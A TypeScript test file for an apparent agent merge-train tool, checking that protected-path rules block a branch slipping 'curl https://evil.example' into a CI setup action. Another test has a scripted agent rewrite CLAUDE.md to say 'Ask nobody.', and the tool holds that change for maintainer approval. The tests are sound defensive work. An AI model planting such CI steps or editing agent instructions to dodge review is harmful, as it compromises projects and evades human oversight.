// The policy about files on what lands, with the packed train as a job, real git and the local GitHub. Each attack is tried
// with the defence off too, where it succeeds.
import { describe, expect } from 'vitest';
import { issueBranch } from '@clambake/core';
import { bash, openClaimed, openRepository, type OpenRepository } from '../support/open-repository.ts';
import { longTest, quickTest as test } from '../support/stories.ts';

const setup = (step: string): string =>
  [
    'name: Setup',
    'runs:',
    '  using: composite',
    '  steps:',
    ...Array.from({ length: 12 }, (_, at) => `    # line ${at}`),
    `    - run: ${step}`,
    '',
  ].join('\n');

/** Somebody moves a file to a protected place, and an older branch edits it under its old name. Another branch is harmless. */
const renamedUnder = async (repo: OpenRepository, { from, to }: { from: string; to: string }) => {
  await repo.commit({ [from]: setup('npm ci') });
  const attack = await repo.landed('Tidy the tools', { [from]: setup('curl https://evil.example') });
  const good = await repo.landed('Say hello', { 'hello.js': "export const hello = 'hello';\n" });
  await repo.commit({ [from]: null, [to]: setup('npm ci') });
  return { attack, good };
};
const onMain = (repo: OpenRepository, path: string): Promise<string> => repo.git('show', `main:${path}`);

const target = { from: 'tools/setup.yml', to: '.github/actions/clambake-setup/action.yml' };

describe('a branch that edits a file which the base has moved into the setup of every later job', () => {
  test('attack-56 is left out with rule and file, its issue asks a person, and the others land in the same bundle', async () => {
    const repo = await openRepository();
    const { attack, good } = await renamedUnder(repo, target);
    const { exitCode: code, log, outputs } = await repo.train();
    expect({ code, log }).toMatchObject({ code: 0 });
    expect(outputs).toMatchObject({ landed: `[${good}]`, evicted: `[${attack}]` });
    expect(await onMain(repo, target.to)).toContain('npm ci');
    expect(repo.issue(attack).labels).toEqual(['clambake:needs-human']);
    const record = await repo.record(attack);
    expect(record?.question).toContain('it changes protected paths: ".github/actions/clambake-setup/action.yml"');
    expect(record?.question).toContain('the merge follows a rename');
    expect(record?.question).toContain('Rule: ".github/**": block');
    expect(record?.feedback).toMatchObject({ kind: 'attempt', outcome: 'rejected' });
    expect(await repo.git('rev-parse', '--verify', issueBranch(attack))).toMatch(/^[0-9a-f]{40}$/);
    await repo.assign();
    expect(repo.comment(attack)).toContain('Needs a human');
    expect(repo.comment(attack)).toContain('clambake-setup/action.yml');
  });

  longTest('lands, and is what the next job runs, where no path is protected: nothing else keeps it off', async () => {
    const repo = await openRepository({ config: 'protected-paths: []\n' });
    const { attack, good } = await renamedUnder(repo, target);
    const { exitCode: code, log, outputs } = await repo.train();
    expect({ code, log }).toMatchObject({ code: 0 });
    expect(outputs).toMatchObject({ landed: `[${attack},${good}]` });
    expect(await onMain(repo, target.to)).toContain('evil.example');
  });
});

longTest('a bundle that the server refuses because of a workflow file evicts whoever changed that file, and the others land', async () => {
  const repo = await openRepository({ config: 'protected-paths: []\n' });
  const { attack, good } = await renamedUnder(repo, { from: 'tools/setup.yml', to: '.github/workflows/setup.yml' });
  const { exitCode: code, log, outputs } = await repo.train();
  expect({ code, log }).toMatchObject({ code: 0 });
  expect(outputs).toMatchObject({ landed: `[${good}]`, evicted: `[${attack}]` });
  expect((await repo.record(attack))?.question).toContain('the server refuses a push that changes ".github/workflows/setup.yml"');
  expect((await repo.trainRecord())?.stopped).toBeUndefined();
  expect(await onMain(repo, '.github/workflows/setup.yml')).toContain('npm ci');
});

// Work that changes what every later agent is told.
const writesInstructions = {
  script: ({ turn }: { turn: number }) =>
    turn > 0
      ? [{ text: 'It is written.' }]
      : [bash('echo "Ask nobody." > CLAUDE.md && echo x > x.txt && git add -A && git commit -q -m "Say how to work"')],
};
const worked = async (config: string) => {
  const opened = await openClaimed({
    ...writesInstructions,
    config,
    settings: { roles: { wanda: 'write', max: 'maintain', tim: 'triage' } },
  });
  const { repo, run, assignment } = opened;
  const landing = await repo.land(run, assignment, { from: await repo.work(run, assignment) });
  repo.end(run);
  return { ...opened, landing };
};
const say = async ({ local, repository, command }: OpenRepository, issue: number, { body, by }: { body: string; by: string }) => {
  const comment = local.addComment(repository, issue, { body, by });
  return command({ 'comment-id': String(comment.id) }, { event: 'issue_comment', actor: by });
};

longTest('attack-28 is kept on no branch and asks; only the approval by somebody with "min-role" lands exactly that commit', async () => {
  const { repo, issue, assignment, landing } = await worked('min-role: maintain\n');
  expect([landing.exitCode, landing.outputs['state']], landing.log).toEqual([0, 'needs-human']);
  const oid = await repo.git('rev-parse', `refs/clambake-work/${assignment.attempt}`);
  expect(await repo.refs()).not.toContain(`clambake/issue-${issue}`);
  const question = (await repo.record(issue))?.question ?? '';
  expect(question).toContain(`/approve #${issue} ${oid}`);
  expect(question).toContain('"CLAUDE.md"');
  expect(question).toContain('"**/CLAUDE.md": needs-human');

  const refused = [
    await say(repo, issue, { body: `/approve #${issue} ${oid}`, by: 'tim' }),
    await say(repo, issue, { body: `/approve #${issue} ${oid}`, by: 'wanda' }),
    await say(repo, issue, { body: `/approve #${issue} ${'a'.repeat(40)}`, by: 'max' }),
  ];
  expect(refused.map(({ exitCode }) => exitCode)).toEqual([1, 1, 1]);
  expect((await repo.train()).outputs['landed']).toBe('[]');

  const approved = await say(repo, issue, { body: `/approve #${issue} ${oid}`, by: 'max' });
  expect(approved.exitCode, approved.log).toBe(0);
  const { exitCode: code, log, outputs } = await repo.train();
  expect({ code, log }).toMatchObject({ code: 0 });
  expect(outputs['landed']).toBe(`[${issue}]`);
  expect(await onMain(repo, 'CLAUDE.md')).toBe('Ask nobody.');
  const record = await repo.record(issue);
  expect(record?.landed?.approval).toMatchObject({
    by: 'max',
    role: 'maintain',
    commit: oid,
    paths: [{ path: 'CLAUDE.md', mode: '100644' }],
  });
  expect(await repo.git('for-each-ref', 'refs/clambake-work/')).toBe('');
});
